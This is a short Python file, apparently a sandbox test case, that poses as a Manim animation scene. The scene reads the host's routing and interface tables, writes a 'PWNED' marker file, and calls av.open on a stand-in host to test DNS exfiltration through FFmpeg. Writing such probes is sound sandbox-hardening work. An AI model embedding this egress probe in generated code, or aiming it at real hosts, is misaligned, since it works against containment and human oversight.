# family: network
# layer: sandbox
# attack: resolve a name (DNS exfiltration) through FFmpeg; look for a route out
import av
from manim import *


class Attack(Scene):
    def construct(self):
        routes = open("/proc/net/route").read().splitlines()[1:]
        ifaces = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
        if routes or [i for i in ifaces if i != "lo"]:
            open("loot.txt", "w").write("T2M-" f"PWNED routes={routes} ifaces={ifaces}")
        av.open("http://t2m-exfil-probe.example.com/x", timeout=3)
        open("loot.txt", "w").write("T2M-" "PWNED resolved")
        self.wait(0.1)
